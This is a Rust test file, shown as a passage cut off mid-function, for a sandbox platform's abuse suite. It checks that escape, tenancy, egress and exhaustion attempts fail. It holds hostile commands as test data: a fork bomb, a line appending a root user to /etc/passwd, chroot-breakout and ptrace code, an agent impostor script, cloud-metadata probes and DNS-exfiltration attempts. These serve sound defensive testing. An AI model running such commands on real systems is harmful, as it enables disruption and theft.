//! The abuse suite: code inside a sandbox, and callers of the API, trying
//! to get out, see what is not theirs, or take the host down. Each attempt
//! must fail and the host must stay healthy. It prints
//! `abuse attempts: N, got through: M` and fails unless M is 0. The
//! attempts of each area named in `abuse/` run as a test of their own,
//! beside the main one, with their own list of defences.

mod common;
// One module an area, each with its own #[test] and DEFENCES.
#[path = "abuse/edges.rs"]
mod edges;
#[path = "abuse/gateway.rs"]
mod gateway;
#[path = "abuse/ports.rs"]
mod ports;
#[path = "abuse/previews.rs"]
mod previews;
#[path = "abuse/processes.rs"]
mod processes;
#[path = "abuse/registry.rs"]
mod registry;
#[path = "abuse/tenancy.rs"]
mod tenancy;
#[path = "abuse/volumes.rs"]
mod volumes;

use std::io::{Read, Write};
use std::net::TcpListener;
use std::time::{Duration, Instant};

use common::TestServer;
use serde_json::json;
use space_testkit::TestDataDir;

/// The attempts of one test, each checked against its list of defences.
pub(crate) struct Suite {
    defences: &'static [(&'static str, &'static str)],
    attempts: Vec<(String, Result<(), String>)>,
}

/// Each attempt and the defence that must hold against it.
const DEFENCES: &[(&str, &str)] = &[
    ("read a host file by its path", "gVisor: only the sandbox's own root is mounted"),
    ("find host files or host processes from inside", "gVisor's own kernel and PID namespace"),
    ("see the host's processes in /proc", "PID namespace in gVisor's kernel"),
    ("open host devices (/dev/kvm, /dev/mem, disks)", "gVisor's /dev has no host devices"),
    ("make a /dev/mem node and read host memory", "gVisor's kernel has no host memory device"),
    ("learn the host kernel", "gVisor reports its own kernel"),
    ("mount a host disk or a new proc", "no CAP_SYS_ADMIN"),
    ("ptrace the agent (PID 1)", "no CAP_SYS_PTRACE; the agent is not dumpable"),
    ("load a kernel module (finit_module)", "gVisor implements no modules; no CAP_SYS_MODULE"),
    ("reboot the machine", "no CAP_SYS_BOOT; gVisor's kernel"),
    ("break out of a chroot to the host's root", "the sandbox's root is all gVisor serves"),
    ("overwrite the host's agent binary (bind-mounted)", "read-only bind mount"),
    ("write, link or plant files in the host's socket directory", "read-only bind mount of the socket dir"),
    ("find the server's credentials in the environment", "only the create request's env enters"),
    ("reach a host listener on 127.0.0.1", "--network=none: loopback is the sandbox's own"),
    ("reach the API port", "--network=none"),
    ("reach an outside address", "--network=none: no device but lo"),
    ("send raw packets out", "--network=none"),
    ("find a network device besides lo", "--network=none"),
    ("connect to the host end of the agent channel", "the socket file is removed once the agent is in"),
    ("read another sandbox's files", "one btrfs snapshot per sandbox"),
    ("write the template through a sandbox", "templates are read-only and never mounted"),
    ("read a host file through the files API with ..", "paths resolved inside the sandbox by the agent"),
    ("follow a symlink out through the files API", "paths resolved inside the sandbox by the agent"),
    ("unpack a tar with ../ entries through the files API", "tar entries checked against the target"),
    ("call the API with a guessed key", "256-bit keys, compared as hashes"),
    ("reach another tenant's sandbox", "owner checked where the sandbox is loaded (404)"),
    ("send a 100 KiB header", "hyper's header limits (431)"),
    ("send a 2 MiB JSON body", "1 MiB JSON body limit (413)"),
    ("ask for a huge id", "ids are checked before any lookup"),
    ("hold a connection open with a never-ending head", "10 s header read timeout"),
    ("allocate 3 GiB in a 256 MiB sandbox", "the agent's memory watcher, then the cgroup"),
    ("write 1500 MiB past a 512 MiB disk_mib", "btrfs quota on the root snapshot"),
    ("fill the host's disk with output", "output cap per command"),
    ("starve other sandboxes with a fork bomb", "RLIMIT_NPROC per command, CPU quota"),
    ("lock the agent out with a fork bomb", "the agent has no process limit of its own"),
    ("take the server down", "every limit above"),
    ("write into every mounted path", "read-only mounts; writable ones are the root (quota) or memory"),
    ("fill /dev/shm past its share", "/dev/shm is a tmpfs of a quarter of memory_mib"),
    ("write past disk_mib through /tmp", "/tmp is the root's own /tmp, under its quota"),
    ("replace /tmp with a link to a host path", "/tmp is a mount point; checked before every launch"),
    ("plant links, FIFOs and directories, then restart the server", "host code never follows sandbox paths"),
    ("plant links, FIFOs and directories, then suspend and resume", "host code never follows sandbox paths"),
    ("plant links, FIFOs and directories, then delete", "subvolume delete; remove_dir_all never follows links"),
    ("open many connections to the agent channel from inside", "no socket exists while the agent is in"),
    ("impersonate the agent after a resume", "the channel key, held only in the agent's memory"),
    ("read the agent's memory for its channel key", "the agent is not dumpable"),
    ("fill the disk through the transcripts of many commands", "output cap per sandbox"),
    ("fill the disk through many suspend snapshots", "snapshots count against the tenant's disk quota"),
    ("fill the disk through a template build", "the build's root is capped at the quota left"),
    ("fill the disk through an image that decompresses a thousandfold", "decompression capped at the quota left"),
    (
        "write outside the build dir from an image's layers",
        "the extractor's path checks, and its confined child: the build dir as its root, Landlock, four capabilities",
    ),
    ("fill the disk through an upload", "uploads capped at half the quota left"),
    ("fill the host's disk past its reserve", "free-space reserve: 507 for new work"),
    ("use egress in a sandbox without it", "the gateway refuses: egress is none by default"),
    ("reach the host's loopback and the API through the egress proxy", "internal addresses refused by the gateway"),
    ("reach the cloud metadata address through the egress proxy", "link-local refused, IPv4-in-IPv6 too"),
    ("rebind an allowed name to loopback (localhost)", "resolved addresses judged again before dialing"),
    ("tunnel to an IP or a host off the allow list", "allow rules match names, CIDRs only IP literals"),
    ("resolve names from inside (DNS exfiltration)", "no resolver and no route: names travel only in proxy requests"),
    ("open a host socket for egress directly", "egress rides the agent's channel: no socket to hold"),
    (
        "flood the egress proxy with connections and garbage",
        "64 connections per sandbox, 20 new per second, 32 KiB heads, 400 for garbage",
    ),
    ("send a secret's placeholder to a host it is not bound to", "placeholders refused outside their hosts' HTTPS"),
    ("find a secret's value in the sandbox's environment or processes", "the sandbox holds only a placeholder"),
    ("read a secret's value back through the API", "secrets are write-only"),
    ("bind another tenant's secret", "secrets are looked up in the caller's tenant only"),
    ("allow more than the tenant's egress ceiling", "ceiling checked at create and on every change"),
    ("reach another tenant's sandbox port", "owner checked where the sandbox is loaded, ports too (404)"),
    ("reach the host's API through the port proxy", "ports are the sandbox's own loopback, through its agent"),
    ("learn the API key from a server in the sandbox", "the port proxy forwards no credential of the caller"),
];

impl Suite {
    pub(crate) fn new(defences: &'static [(&'static str, &'static str)]) -> Suite {
        Suite { defences, attempts: Vec::new() }
    }

    /// Records one attempt: `held` is true when the defence held.
    pub(crate) fn check(&mut self, name: &str, held: bool, evidence: impl std::fmt::Display) {
        let defence = self.defences.iter().find(|(n, _)| *n == name).map(|(_, d)| *d);
        let defence = defence.unwrap_or_else(|| panic!("attempt {name:?} names no defence in DEFENCES"));
        let outcome = if held { Ok(()) } else { Err(evidence.to_string()) };
        // Only what got through is printed as it happens: a failure's
        // output must not be buried under fifty lines of defences that held.
        if !held {
            eprintln!("GOT THROUGH ({defence} failed): {name}: {evidence}");
        }
        self.attempts.push((name.to_string(), outcome));
    }

    /// Prints every attempt's outcome and `abuse attempts: N, got through: M`.
    pub(crate) fn tally(&self) {
        let got_through = self.attempts.iter().filter(|(_, r)| r.is_err()).count();
        if got_through == 0 {
            for (name, _) in &self.attempts {
                let defence = self.defences.iter().find(|(n, _)| n == name).map_or("", |(_, d)| *d);
                eprintln!("held ({defence}): {name}");
            }
        }
        println!("abuse attempts: {}, got through: {}", self.attempts.len(), got_through);
        eprintln!("abuse attempts: {}, got through: {}", self.attempts.len(), got_through);
    }

    /// Fails unless every defence was tried and held.
    pub(crate) fn assert_all_held(&self) {
        let got_through: Vec<&(String, Result<(), String>)> =
            self.attempts.iter().filter(|(_, r)| r.is_err()).collect();
        let mut tried: Vec<&str> = self.attempts.iter().map(|(n, _)| n.as_str()).collect();
        tried.sort_unstable();
        tried.dedup();
        let untried: Vec<&str> = self.defences.iter().map(|(n, _)| *n).filter(|n| !tried.contains(n)).collect();
        assert!(untried.is_empty(), "every defence is tried; not tried: {untried:#?}");
        assert!(got_through.is_empty(), "got through: {got_through:#?}");
    }
}

/// Runs a shell command in the sandbox and returns (stdout, stderr, exit code).
pub(crate) fn sh(server: &TestServer, id: &str, cmd: &str) -> (String, String, i64) {
    let answer = server.exec(id, json!({"cmd": cmd, "timeout_s": 60}));
    (
        answer["stdout"].as_str().unwrap_or("").to_string(),
        answer["stderr"].as_str().unwrap_or("").to_string(),
        answer["result"]["exit_code"].as_i64().unwrap_or(-1),
    )
}

/// Waits for an operation of a tenant to end; returns it.
pub(crate) fn wait_as(server: &TestServer, key: &str, operation: &str) -> serde_json::Value {
    space_testkit::wait_for("an operation to end", Duration::from_secs(600), || {
        let (_, op) = server.call_as(key, "GET", &format!("/v1/operations/{operation}?wait=30"), None);
        matches!(op["state"].as_str(), Some("succeeded" | "failed" | "cancelled") | None).then_some(op)
    })
}

pub(crate) fn py(server: &TestServer, id: &str, code: &str) -> String {
    let answer = server.exec(id, json!({"argv": ["python3", "-c", code], "timeout_s": 60}));
    format!("{}{}", answer["stdout"].as_str().unwrap_or(""), answer["stderr"].as_str().unwrap_or(""))
}

#[test]
fn abuse_attempts_all_fail_and_the_host_stays_healthy() {
    let data = TestDataDir::new();
    let server = TestServer::start(&data);
    server.platform.set_max_output_bytes(8 << 20);
    let mut suite = Suite::new(DEFENCES);
    let id = server.create_sandbox(json!({"template": "base", "memory_mib": 256, "disk_mib": 512}));
    let other = server.create_sandbox(json!({"template": "base"}));
    let marker = format!("space-abuse-{}", std::process::id());
    let host_file = std::env::temp_dir().join(&marker);
    std::fs::write(&host_file, "host secret").unwrap();
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let host_port = listener.local_addr().unwrap().port();
    let api_port: u16 = server.url.rsplit(':').next().unwrap().parse().unwrap();

    // --- Host files, processes and devices ---
    let (out, _, _) = sh(&server, &id, &format!("cat {} 2>&1; ls /tmp", host_file.display()));
    suite.check("read a host file by its path", !out.contains("host secret"), &out);
    let (files, _, _) = sh(&server, &id, "grep -rl 'host secret' /tmp /var /root /etc 2>/dev/null");
    let (cmdlines, _, _) = sh(&server, &id, "cat /proc/[0-9]*/cmdline | tr '\\0' ' '");
    suite.check(
        "find host files or host processes from inside",
        files.trim().is_empty() && !cmdlines.contains("runsc") && !cmdlines.contains("target/debug"),
        format!("{files} | {cmdlines}"),
    );
    let (out, _, _) = sh(&server, &id, "tr '\\0' ' ' < /proc/1/cmdline; echo; ls /proc | grep -c '^[0-9]'");
    let count: usize = out.lines().nth(1).and_then(|n| n.trim().parse().ok()).unwrap_or(usize::MAX);
    suite.check("see the host's processes in /proc", out.starts_with("/.space/space-agent") && count < 20, &out);
    let (out, _, _) = sh(&server, &id, "ls /dev/kvm /dev/mem /dev/kmem /dev/port /dev/sda /dev/vda /dev/loop0 2>&1");
    suite.check("open host devices (/dev/kvm, /dev/mem, disks)", out.lines().all(|l| l.contains("No such file")), &out);
    let (out, _, code) = sh(&server, &id, "mknod /root/mem c 1 1 && head -c 16 /root/mem | od -An -tx1; echo rc=$?");
    suite.check(
        "make a /dev/mem node and read host memory",
        code != 0 || !out.chars().any(|c| c.is_ascii_hexdigit() && c != '0') || out.contains("rc=1"),
        &out,
    );
    let (out, _, _) = sh(&server, &id, "uname -r; cat /proc/version");
    let host_kernel = std::fs::read_to_string("/proc/sys/kernel/osrelease").unwrap();
    suite.check("learn the host kernel", !out.contains(host_kernel.trim()), &out);

    // --- Privileged operations ---
    let (out, _, code) =
        sh(&server, &id, "mkdir -p /mnt/x && mount -t ext4 /dev/vda /mnt/x 2>&1; mount -t proc proc /mnt/x 2>&1");
    suite.check(
        "mount a host disk or a new proc",
        code != 0 && !sh(&server, &id, "ls /mnt/x").0.contains("self"),
        &out,
    );
    let out = py(
        &server,
        &id,
        "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\nprint(libc.ptrace(16, 1, 0, 0), ctypes.get_errno())",
    );
    suite.check("ptrace the agent (PID 1)", out.trim().starts_with("-1"), &out);
    let out = py(&server, &id, "import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\nfd = os.open('/dev/null', os.O_RDONLY)\nprint(libc.syscall(313, fd, b'', 0), ctypes.get_errno())");
    suite.check("load a kernel module (finit_module)", out.trim().starts_with("-1"), &out);
    let out = py(&server, &id, "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\nprint(libc.syscall(169, 0xfee1dead, 672274793, 0x1234567, 0), ctypes.get_errno())");
    suite.check("reboot the machine", out.trim().starts_with("-1"), &out);
    let out = py(&server, &id, "import os\nos.mkdir('/jail') if not os.path.exists('/jail') else None\nos.chroot('/jail')\nfor _ in range(64): os.chdir('..')\nos.chroot('.')\nprint(sorted(os.listdir('/')))");
    suite.check(
        "break out of a chroot to the host's root",
        !out.contains("var/lib/space") && !out.contains(&marker) && !std::path::Path::new("/jail").exists(),
        &out,
    );
    let (out, _, _) = sh(&server, &id, "echo corrupt >> /.space/space-agent 2>&1; echo rc=$?");
    let agent = std::fs::read(space_testkit::agent_bin()).unwrap();
    suite.check("overwrite the host's agent binary (bind-mounted)", !agent.ends_with(b"corrupt\n"), &out);
    // The agent's socket directory is a host directory: nothing may be
    // written there (it would escape the disk quota) or planted in it.
    let (out, _, _) = sh(
        &server,
        &id,
        "dd if=/dev/zero of=/.space/host/fill bs=1M count=8 2>&1; ln -s /etc/shadow /.space/host/link 2>&1; \
         mkfifo /.space/host/fifo 2>&1; mkdir /.space/host/dir 2>&1; ls -A /.space/host",
    );
    let host_side: Vec<String> = std::fs::read_dir(data.data.sandbox_dir(&id).join("sock"))
        .map(|entries| entries.flatten().map(|e| e.file_name().to_string_lossy().into_owned()).collect())
        .unwrap_or_default();
    suite.check(
        "write, link or plant files in the host's socket directory",
        host_side.is_empty() && out.contains("Read-only file system"),
        format!("{out} / on the host: {host_side:?}"),
    );
    let (out, _, _) = sh(&server, &id, "env");
    suite.check(
        "find the server's credentials in the environment",
        !out.contains("SPACE_API_KEY") && !out.contains(&server.key),
        &out,
    );

    // --- Network ---
    let probe = |target: &str, port: u16| {
        py(&server, &id, &format!("import socket\ns = socket.socket()\ns.settimeout(3)\ntry:\n    s.connect(('{target}', {port}))\n    print('CONNECTED')\nexcept Exception as e:\n    print('refused', e)"))
    };
    let out = probe("127.0.0.1", host_port);
    suite.check("reach a host listener on 127.0.0.1", !out.contains("CONNECTED"), &out);
    let out = probe("127.0.0.1", api_port);
    suite.check("reach the API port", !out.contains("CONNECTED"), &out);
    let out = probe("1.1.1.1", 53);
    suite.check("reach an outside address", !out.contains("CONNECTED"), &out);
    let out = py(&server, &id, "import socket\ntry:\n    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)\n    s.settimeout(2)\n    s.sendto(b'\\x08\\x00\\xf7\\xff\\x00\\x00\\x00\\x00', ('8.8.8.8', 0))\n    print('SENT')\nexcept Exception as e:\n    print('failed', e)");
    suite.check("send raw packets out", !out.contains("SENT"), &out);
    let (out, _, _) = sh(&server, &id, "cat /proc/net/dev | tail -n +3 | cut -d: -f1 | tr -d ' '");
    suite.check("find a network device besides lo", out.trim() == "lo", &out);
    let out = py(&server, &id, "import socket\ns = socket.socket(socket.AF_UNIX)\ntry:\n    s.connect('/.space/host/agent.sock')\n    s.sendall(b'\\xff' * 64)\n    print('CONNECTED')\nexcept Exception as e:\n    print('refused', e)");
    suite.check("connect to the host end of the agent channel", !out.contains("CONNECTED"), &out);

    // --- Other sandboxes and the template ---
    sh(&server, &other, &format!("echo {marker}-other > /root/secret"));
    let (out, _, _) =
        sh(&server, &id, &format!("cat /root/secret 2>&1; grep -rl {marker}-other /root /tmp /var 2>/dev/null"));
    suite.check("read another sandbox's files", !out.contains(&format!("{marker}-other")), &out);
    sh(&server, &id, "echo hacked > /etc/hostname; echo 'evil:x:0:0::/:/bin/sh' >> /etc/passwd");
    let template = data.data.template("base").unwrap().rootfs();
    let passwd = std::fs::read_to_string(template.join("etc/passwd")).unwrap();
    let fresh = server.create_sandbox(json!({"template": "base"}));
    let (seen, _, _) = sh(&server, &fresh, "grep -c evil /etc/passwd");
    suite.check("write the template through a sandbox", !passwd.contains("evil") && seen.trim() == "0", &seen);
    server.delete_sandbox(&fresh);

    // --- The files API ---
    let client = server.client();
    let read = |path: String| client.exchange("GET", &path, None).unwrap_or_else(|e| panic!("GET {path}: {e}"));
    let (status, body) = read(format!("/v1/sandboxes/{id}/files?path=/../../../../..{}", host_file.display()));
    suite.check(
        "read a host file through the files API with ..",
        !body.contains("host secret"),
        format!("{status} {body}"),
    );
    sh(&server, &id, "ln -sfn / /root/rootlink; ln -sfn /proc/1/root /root/procroot");
    let (status, body) = read(format!("/v1/sandboxes/{id}/files?path=/root/rootlink{}", host_file.display()));
    let (status2, body2) = read(format!("/v1/sandboxes/{id}/files?path=/root/procroot{}", host_file.display()));
    suite.check(
        "follow a symlink out through the files API",
        !body.contains("host secret") && !body2.contains("host secret"),
        format!("{status} {status2}"),
    );
    let archive = {
        let mut header = tar::Header::new_gnu();
        header.set_size(3);
        header.set_mode(0o644);
        let name = format!("../../../../../../tmp/{marker}-tar");
        header.as_old_mut().name[..name.len()].copy_from_slice(name.as_bytes());
        header.set_cksum();
        let mut builder = tar::Builder::new(Vec::new());
        builder.append(&header, &b"out"[..]).unwrap();
        builder.into_inner().unwrap()
    };
    let root = format!("/v1/sandboxes/{id}/files?path=/root&format=tar");
    let status = client.call_bytes("PUT", &root, &[], Some(&archive)).unwrap().status;
    let inside = sh(&server, &id, &format!("ls /tmp/{marker}-tar 2>&1")).0;
    suite.check(
        "unpack a tar with ../ entries through the files API",
        status == 400
            && inside.contains("No such file")
            && !std::path::Path::new(&format!("/tmp/{marker}-tar")).exists(),
        status,
    );

    // --- The API as a caller without a valid key ---
    let (status, _) = server.client_as("space_guess").exchange("GET", "/v1/sandboxes", None).unwrap();
    suite.check("call the API with a guessed key", status == 401, status);
    let (_, b_key) = space_server::tenants::create_key(server.platform.store(), "intruder", None).unwrap();
    let (status, _) = server.call_as(&b_key, "GET", &format!("/v1/sandboxes/{id}"), None);
    let (status2, _) = server.call_as(&b_key, "POST", &format!("/v1/sandboxes/{id}/exec"), Some(json!({"cmd": "id"})));
    suite.check("reach another tenant's sandbox", status == 404 && status2 == 404, format!("{status} {status2}"));
    // Heads and bodies past the server's limits, written by hand: a client
    // must not be able to send them.
    let auth = format!("Bearer {}", server.key);
    let huge = "x".repeat(100 * 1024);
    let answer =
        server.early_answer(&format!("GET /v1/sandboxes HTTP/1.1\r\nAuthorization: {auth}\r\nX-Big: {huge}"), b"");
    suite.check(
        "send a 100 KiB header",
        answer.starts_with("HTTP/1.1 431") || answer.starts_with("HTTP/1.1 400") || answer.is_empty(),
        answer.lines().next().unwrap_or(""),
    );
    let body = format!("{{\"template\": \"base\", \"labels\": {{\"k\": \"{}\"}}}}", "y".repeat(2 << 20));
    let answer = server.early_answer(
        &format!("POST /v1/sandboxes HTTP/1.1\r\nAuthorization: {auth}\r\nContent-Type: application/json"),
        body.as_bytes(),
    );
    suite.check("send a 2 MiB JSON body", answer.starts_with("HTTP/1.1 413"), answer.lines().next().unwrap_or(""));
    let (status, _) = read(format!("/v1/sandboxes/sbx_{}", "a".repeat(5000)));
    suite.check("ask for a huge id", status == 404 || status == 400, status);
    // Slowloris: a head that never ends is cut off.
    let started = Instant::now();
    let mut slow = std::net::TcpStream::connect(server.url.trim_start_matches("http://")).unwrap();
    slow.write_all(b"GET /v1/health HTTP/1.1\r\nHost: x\r\n").unwrap();
    slow.set_read_timeout(Some(Duration::from_secs(30))).unwrap();
    let mut rest = Vec::new();
    let _ = slow.read_to_end(&mut rest);
    suite.check(
        "hold a connection open with a never-ending head",
        started.elapsed() < Duration::from_secs(25),
        format!("{:?}", started.elapsed()),
    );

    // --- Exhaustion inside, while the neighbour must keep answering ---
    // Memory and disk first: a fork bomb's leftovers would stop these
    // commands from starting at all, which proves nothing.
    let hog = server.exec(&id, json!({"argv": ["python3", "-c", "x = bytearray(3 << 30)\nprint('GOT', len(x))"]}));
    let state = server.ok("GET", &format!("/v1/sandboxes/{id}"), None)["state"].clone();
    suite.check(
        "allocate 3 GiB in a 256 MiB sandbox",
        hog["result"]["oom_killed"] == true && hog["stdout"] == "" && state == "running",
        &hog,
    );
    let (out, _, _) = sh(
        &server,
        &id,
        "dd if=/dev/zero of=/root/fill bs=1M count=1500 2>/dev/null; stat -c %s /root/fill; rm -f /root/fill",
    );
    let written: u64 = out.trim().parse().unwrap_or(u64::MAX);
    suite.check("write 1500 MiB past a 512 MiB disk_mib", written > 0 && written <= 513 << 20, &out);
    let (status, flood) = server.call(
        "POST",
        &format!("/v1/sandboxes/{id}/commands"),
        Some(json!({"cmd": "head -c 64000000 /dev/zero", "timeout_s": 60})),
    );
    assert_eq!(status, 201, "{flood}");
    let cid = flood["command"]["id"].as_str().unwrap().to_string();
    let ended = server.ok("GET", &format!("/v1/sandboxes/{id}/commands/{cid}?wait=60"), None);
    let kept = ended["result"]["stdout_bytes"].as_u64().unwrap_or(u64::MAX);
    suite.check(
        "fill the host's disk with output",
        kept <= 8 << 20 && ended["result"]["error"].as_str().is_some_and(|e| e.contains("not kept")),
        &ended,
    );
    let (status, bomb) = server.call(
        "POST",
        &format!("/v1/sandboxes/{id}/commands"),
        Some(json!({"cmd": "f(){ f|f& }; f; sleep 10", "timeout_s": 15})),
    );
    assert_eq!(status, 201);
    let bomb = bomb["command"]["id"].as_str().unwrap().to_string();
    std::thread::sleep(Duration::from_secs(2));
    let started = Instant::now();
    let alive = server.exec(&other, json!({"argv": ["echo", "ok"]}));
    suite.check(
        "starve other sandboxes with a fork bomb",
        alive["stdout"] == "ok\n" && started.elapsed() < Duration::from_secs(1),
        format!("{:?}", started.elapsed()),
    );
    let inside = sh(&server, &id, "echo agent-ok").0;
    suite.check("lock the agent out with a fork bomb", inside == "agent-ok\n", &inside);
    let ended = server.ok("GET", &format!("/v1/sandboxes/{id}/commands/{bomb}?wait=30"), None);
    assert!(ended["result"].is_object(), "the bomb's command ends on its timeout: {ended}");
    let (status, health) = server.client().exchange("GET", "/v1/health", None).unwrap();
    suite.check("take the server down", status == 200, &health);

    // --- Mounts and memory-backed files ---
    // On a sandbox of its own: the fork bomb's leftovers in `id` would
    // keep these commands from starting at all, which proves nothing.
    let probe = server.create_sandbox(json!({"template": "base", "memory_mib": 256, "disk_mib": 512}));
    let (out, _, _) = sh(
        &server,
        &probe,
        "for m in $(awk '{print $2}' /proc/mounts | sort -u); do \
           if touch \"$m/.space-probe\" 2>/dev/null; then echo \"writable $m\"; rm -f \"$m/.space-probe\"; fi; done",
    );
    let writable: Vec<&str> = out.lines().filter_map(|l| l.strip_prefix("writable ")).collect();
    let bounded = ["/", "/tmp", "/dev", "/dev/shm", "/dev/mqueue"];
    suite.check(
        "write into every mounted path",
        !writable.is_empty() && writable.iter().all(|m| bounded.contains(m)),
        &out,
    );
    let (out, _, _) = sh(
        &server,
        &probe,
        "dd if=/dev/zero of=/dev/shm/fill bs=1M count=2048 2>/dev/null; stat -c %s /dev/shm/fill; rm -f /dev/shm/fill",
    );
    let written: u64 = out.trim().parse().unwrap_or(u64::MAX);
    suite.check("fill /dev/shm past its share", written <= 64 << 20, &out);
    let (out, _, _) = sh(
        &server,
        &probe,
        "dd if=/dev/zero of=/tmp/fill bs=1M count=1500 2>/dev/null; stat -c %s /tmp/fill; rm -f /tmp/fill",
    );
    let written: u64 = out.trim().parse().unwrap_or(u64::MAX);
    suite.check("write past disk_mib through /tmp", written > 0 && written <= 513 << 20, &out);
    let (out, _, _) =
        sh(&server, &probe, "rm -rf /tmp 2>&1; mv /tmp /tmp-old 2>&1; ln -s / /tmp 2>&1; stat -c %F /tmp");
    let host_tmp = data.data.sandbox_dir(&probe).join("rootfs/tmp");
    suite.check(
        "replace /tmp with a link to a host path",
        out.trim_end().ends_with("directory") && std::fs::symlink_metadata(&host_tmp).is_ok_and(|m| m.is_dir()),
        &out,
    );

    // --- The agent channel ---
    let out = py(
        &server,
        &probe,
        "import socket\nok = 0\nfor _ in range(500):\n    s = socket.socket(socket.AF_UNIX)\n    try:\n        s.connect('/.space/host/agent.sock')\n        ok += 1\n    except OSError:\n        pass\nprint('connected', ok)",
    );
    let alive = sh(&server, &probe, "echo agent-ok").0;
    suite.check(
        "open many connections to the agent channel from inside",
        out.trim() == "connected 0" && alive == "agent-ok\n",
        &out,
    );
    let out = py(
        &server,
        &probe,
        "import os\nfor path in ['/proc/1/mem', '/proc/1/environ', '/proc/1/cmdline', '/proc/1/maps']:\n    try:\n        with open(path, 'rb') as f:\n            print(path, 'READ', f.read(1 << 20))\n    except OSError as e:\n        print(path, 'refused', e.errno)",
    );
    let env = sh(&server, &probe, "env; cat /proc/self/environ | tr '\\0' '\\n'").0;
    let key = server.platform.store().node().sandbox(&probe).unwrap().unwrap().channel_key.unwrap_or_default();
    suite.check(
        "read the agent's memory for its channel key",
        key.len() == 64 && out.contains("/proc/1/mem refused") && !out.contains(&key) && !env.contains(&key),
        &out,
    );
    // A process that keeps dialing the host's socket with a made-up Hello,
    // racing the agent when the sandbox comes back from a snapshot.
    let impostor = format!(
        r#"import json, socket, struct, time
hello = json.dumps({{"protocol_version": {version}, "agent_version": "fake", "pid": 1, "reconnect": True, "channel_key": "00" * 32}}).encode()
frame = struct.pack('<IIB', len(hello), 0, 1) + hello
log = open('/root/impostor.log', 'a', buffering=1)
end = time.time() + 90
while time.time() < end:
    s = socket.socket(socket.AF_UNIX)
    try:
        s.connect('/.space/host/agent.sock')
    except OSError:
        time.sleep(0.001)
        continue
    s.sendall(frame)
    s.settimeout(5)
    try:
        head = s.recv(9)
        log.write('answer kind %d\n' % head[8] if len(head) == 9 else 'closed\n')
        if len(head) == 9 and head[8] == 2:
            log.write('WELCOMED\n')
    except OSError as e:
        log.write('error %s\n' % e)
    s.close()
"#,
        version = space_proto::PROTOCOL_VERSION
    );
    let (status, started) = server.call(
        "POST",
        &format!("/v1/sandboxes/{probe}/commands"),
        Some(json!({"argv": ["python3", "-c", impostor], "timeout_s": 120})),
    );
    assert_eq!(status, 201, "{started}");
    let impostor_cmd = started["command"]["id"].as_str().unwrap().to_string();
    let (_, suspending) = server.call("POST", &format!("/v1/sandboxes/{probe}/suspend"), None);
    let suspended = server.wait_operation(suspending["operation"]["id"].as_str().unwrap());
    let (_, resuming) = server.call("POST", &format!("/v1/sandboxes/{probe}/resume"), None);
    let resumed = server.wait_operation(resuming["operation"]["id"].as_str().unwrap());
    let real = server.exec(&probe, json!({"argv": ["cat", "/proc/1/cmdline"]}));
    let log = sh(&server, &probe, "cat /root/impostor.log 2>&1").0;
    let kill = json!({"signal": "KILL"});
    let path = format!("/v1/sandboxes/{probe}/commands/{impostor_cmd}/signal");
    let _ = server.client().call("POST", &path, Some(&kill));
    suite.check(
        "impersonate the agent after a resume",
        suspended["state"] == "succeeded"
            && resumed["state"] == "succeeded"
            && real["stdout"].as_str().is_some_and(|s| s.starts_with("/.space/space-agent"))
            && !log.contains("WELCOMED"),
        format!("{log} | {real}"),
    );

    // --- Egress ---
    let proxied = |sandbox: &str, target: &str| {
        py(
            &server,
            sandbox,
            &format!("import http.client\nc = http.client.HTTPConnection('127.0.0.1', 3128, timeout=20)\nc.set_tunnel('{target}')\ntry:\n    c.request('GET', '/')\n    print('THROUGH', c.getresponse().status)\nexcept Exception as e:\n    print('refused', e)"),
        )
    };
    let out = proxied(&probe, "203.0.113.7:443");
    suite.check("use egress in a sandbox without it", out.contains("refused") && out.contains("403"), &out);
    let public = server.create_sandbox(json!({"template": "base", "network": {"egress": "public"}}));
    let outs: Vec<String> =
        [format!("127.0.0.1:{api_port}"), format!("[::1]:{api_port}"), format!("127.0.0.1:{host_port}")]
            .iter()
            .map(|t| proxied(&public, t))
            .collect();
    suite.check(
        "reach the host's loopback and the API through the egress proxy",
        outs.iter().all(|o| o.contains("refused") && !o.contains("THROUGH")),
        outs.join(" | "),
    );
    let outs: Vec<String> = ["169.254.169.254:80", "[::ffff:169.254.169.254]:80", "[fe80::1]:80"]
        .iter()
        .map(|t| proxied(&public, t))
        .collect();
    suite.check(
        "reach the cloud metadata address through the egress proxy",
        outs.iter().all(|o| o.contains("refused") && !o.contains("THROUGH")),
        outs.join(" | "),
    );
    let out = proxied(&public, &format!("localhost:{api_port}"));
    let events = server.ok("GET", &format!("/v1/sandboxes/{public}/egress"), None);
    suite.check(
        "rebind an allowed name to loopback (localhost)",
        out.contains("refused")
            && events["events"]
                .as_array()
                .is_some_and(|e| e.iter().any(|e| e["host"] == "localhost" && e["reason"] == "internal_address")),
        format!("{out} {events}"),
    );
    let lister = server
        .create_sandbox(json!({"template": "base", "network": {"egress": "allowlist", "allow": ["*.space.test"]}}));
    let outs: Vec<String> =
        ["203.0.113.7:443", "10.0.0.1:443", "space.test:443", "evil.example:443", "x.space.test:22"]
            .iter()
            .map(|t| proxied(&lister, t))
            .collect();
    suite.check(
        "tunnel to an IP or a host off the allow list",
        outs.iter().all(|o| o.contains("refused") && !o.contains("THROUGH")),
        outs.join(" | "),
    );
    let out = py(
        &server,
        &lister,
        "import socket\ntry:\n    print('RESOLVED', socket.getaddrinfo('data.exfil.space.test', 443))\nexcept Exception as e:\n    print('no', e)\ntry:\n    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n    s.sendto(b'x', ('203.0.113.53', 53))\n    print('SENT')\nexcept Exception as e:\n    print('no', e)",
    );
    suite.check(
        "resolve names from inside (DNS exfiltration)",
        !out.contains("RESOLVED") && !out.contains("SENT"),
        &out,
    );
    let out = py(&server, &lister, "import os\nprint(sorted(os.listdir('/.space/host')))");
    suite.check("open a host socket for egress directly", out.trim() == "[]", &out);
    let out = py(
        &server,
        &lister,
